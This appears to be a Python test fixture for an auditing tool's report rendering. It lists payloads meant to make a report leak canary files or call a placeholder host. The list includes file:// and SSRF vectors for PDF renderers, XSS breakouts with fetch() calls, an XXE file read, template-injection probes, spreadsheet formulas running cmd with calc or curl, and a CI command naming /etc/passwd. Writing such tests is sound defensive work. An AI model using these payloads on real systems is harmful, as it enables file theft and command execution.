"""What somebody could write into a file that is audited, to make a report fetch, leak or run something."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Final

CANARY: Final = "CANARY-7d1f"
"""Stands in files of this machine, in no payload: where it shows up, a file was read."""
_SVG: Final = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


@dataclass(frozen=True, slots=True)
class Bait:
    """Files that nobody may read, and an address that nobody may ask."""

    text: str
    svg: str
    css: str
    net: str

    @classmethod
    def laid(cls, folder: Path, net: str) -> Bait:
        """Write the files."""
        made = cls.named(folder, net)
        Path(made.text).write_text(CANARY)
        drawing = f'<svg {_SVG} width="90" height="20"><text y="15">{CANARY}</text></svg>'
        Path(made.svg).write_text(drawing)
        Path(made.css).write_text(f'p::after{{content:"{CANARY}"}}')
        return made

    @classmethod
    def named(cls, folder: Path, net: str) -> Bait:
        """Name the files without writing any."""
        text, svg, css = (str(folder / f"secret.{ending}") for ending in ("txt", "svg", "css"))
        return cls(text, svg, css, net)


def of_pages(at: Bait) -> dict[str, str]:
    """The seventeen attacks by which a naive PDF renderer was made to leak a file or send a request."""
    nested = (
        "%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 xmlns:xlink=%22http://www.w3.org/1999/xlink%22 width=%2290%22 "
        f"height=%2230%22%3E%3Cimage xlink:href=%22file://{at.svg}%22 width=%2260%22 height=%2220%22/%3E%3C/svg%3E"
    )
    return {
        "img file": f'<img src="file://{at.svg}">',
        "img http": f'<img src="{at.net}/img">',
        "css url http": f'<p style="background:url({at.net}/bg)">x</p>',
        "style import file": f'<style>@import url("file://{at.css}");</style><p>x</p>',
        "style import http": f'<style>@import url("{at.net}/a.css");</style><p>x</p>',
        "link stylesheet http": f'<link rel=stylesheet href="{at.net}/b.css"><p>x</p>',
        "font-face http": f'<style>@font-face{{font-family:z;src:url({at.net}/f)}}</style><p style="font-family:z">x</p>',
        "svg image http": f'<svg {_SVG} width="9" height="9"><image xlink:href="{at.net}/svgimg" width="9" height="9"/></svg>',
        "svg image file": f'<svg {_SVG} width="90" height="30"><image xlink:href="file://{at.svg}" width="60" height="20"/></svg>',
        "svg use external": f'<svg {_SVG} width="9" height="9"><use href="{at.net}/use#a"/></svg>',
        "link attachment file": f'<link rel=attachment href="file://{at.text}"><p>x</p>',
        "a attachment file": f'<a rel=attachment href="file://{at.text}">x</a>',
        "object file": f'<object data="file://{at.svg}"></object>',
        "embed file": f'<embed src="file://{at.svg}">',
        "base href": f'<base href="{at.net}/base/"><img src="x">',
        "content url file": f'<style>p::before{{content:url("file://{at.svg}")}}</style><p>x</p>',
        "data svg nesting file": f'<img src="data:image/svg+xml,{nested}">',
    }


def of_browsers(at: Bait) -> dict[str, str]:
    """What runs or fetches in a browser, if anything of it is taken for markup."""
    run = f"fetch('{at.net}/run')"
    return {
        "script": f"<script>{run}</script>",
        "script src": f'<script src="{at.net}/x.js"></script>',
        "onerror": f'<img src=x onerror="{run}">',
        "double quote": f'" onmouseover="{run}" autofocus onfocus="{run}" x="',
        "single quote": f"' onmouseover='{run}' x='",
        "end of style": f"</style><style>*{{background:url({at.net}/c)}}</style>",
        "end of title": f'</title><script src="{at.net}/t"></script>',
        "end of script": f'</script><script src="{at.net}/e"></script>',
        "end of comment": f'--><script src="{at.net}/m"></script><!--',
        "end of table": f'</td></tr></table></dl></main><img src="{at.net}/table">',
        "svg onload": f'<svg onload="{run}">',
        "iframe": f'<iframe src="{at.net}/frame" srcdoc="<script>parent.{run}</script>"></iframe>',
        "refresh": f'<meta http-equiv=refresh content="0;url={at.net}/refresh">',
        "form": f'<form action="{at.net}/form"><input type=image src="{at.net}/input" autofocus onfocus="{run}"></form>',
        "media": f'<video poster="{at.net}/poster"><source src="{at.net}/v" srcset="{at.net}/s"></video>',
        "preload": f'<link rel="preload" as="image" href="{at.net}/pre"><link rel=prefetch href="{at.net}/fetch">',
        "javascript link": f'<a href="javascript:{run}" id="x" onclick="{run}">x</a> javascript:{run}',
        "entities": f"&lt;img src={at.net}/ent&gt; &#60;img src={at.net}/num&#62; \\u003cimg src={at.net}/esc\\u003e",
        "utf-7": f"+ADw-img src=+ACI-{at.net}/utf7+ACI-+AD4-",
        "cdata": f'<![CDATA[<img src="{at.net}/cdata">]]>',
        "doctype": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{at.text}">]><x>&e;</x>',
        "template": "{{ ''.__class__.__mro__ }}{{ cycler.__init__.__globals__ }}"
        f"{{% include '{at.text}' %}}{{% import 'file://{at.text}' as x %}}",
        "wide template": "{{ range(10**9)|list }}{{ '{0.__class__}'.format(1) }}${7*7}#{7*7}",
        "css escape": f"\\3c img src={at.net}/css\\3e; }} body{{background:url({at.net}/brace)}}",
    }


def of_other_formats(at: Bait) -> dict[str, str]:
    """What spreadsheets, Markdown and build logs obey."""
    return {
        "markdown image": f"![x]({at.net}/md) ![y][r]\n\n[r]: {at.net}/ref",
        "markdown link": f"[x](javascript:alert(1)) <{at.net}/auto> [z](file://{at.text})",
        "markdown table": f"| a | b |\n|---|---|\n| <img src={at.net}/t> | `x",
        "markdown fence": f"```\n</details>\n<img src={at.net}/fence>\n~~~",
        "formula": f'=HYPERLINK("{at.net}/h","x")',
        "import formula": f'=IMPORTXML(CONCAT("{at.net}/x?",A1),"//a")',
        "web service": f'+WEBSERVICE("{at.net}/w")',
        "command": "-2+3+cmd|' /C calc'!A0",
        "function": f'@SUM(1+1)*cmd|" /C curl {at.net}"!A0',
        "tab": f'\t=IMAGE("{at.net}/i")',
        "carriage return": f'\r\n=IMAGE("{at.net}/i")',
        "quoted": f'";=IMAGE("{at.net}/q");"',
        "wide equals sign": f'\uff1dIMAGE("{at.net}/wide")',
        "workflow command": f"::set-output name=x::{at.net}\n::error file=/etc/passwd::x",
        "section of a log": "\x1b]8;;http://127.0.0.1:9/\x07link\x1b]8;;\x07 section_start:1:x\r\x1b[0K",
    }
